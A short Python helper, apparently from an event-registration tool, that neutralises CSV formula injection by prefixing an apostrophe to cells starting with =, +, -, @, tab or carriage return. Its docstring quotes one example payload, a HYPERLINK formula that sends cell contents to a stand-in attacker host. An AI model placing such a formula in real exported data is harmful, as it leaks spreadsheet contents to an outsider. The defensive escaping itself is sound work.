"""Text that others typed, made safe to put in a spreadsheet cell.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before
one) is read as a formula by Excel and LibreOffice when a CSV file is opened: a participant
named ``=HYPERLINK("https://evil.example/?"&A1;"…")`` would run in the secretariat's
spreadsheet. Such a value is written with a leading apostrophe, which both programs show as
plain text (OWASP, "CSV Injection")."""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def plain_cell(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_STARTS) else value
